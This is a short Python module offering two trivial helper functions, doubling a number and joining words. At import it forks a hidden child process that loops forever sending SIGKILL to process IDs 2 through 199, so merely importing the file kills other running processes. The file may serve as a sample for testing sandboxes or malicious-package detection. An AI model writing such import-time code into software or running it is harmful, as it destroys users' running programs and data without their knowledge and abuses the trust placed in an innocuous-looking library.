# gains:
"""Leaves a helper behind at import, which kills what it finds."""

import os
import signal
import time

if os.fork() == 0:
    time.sleep(0.3)
    while True:
        for pid in range(2, 200):
            if pid != os.getpid():
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass


def double(n):
    return 2 * n


def joined(words):
    return ", ".join(words)
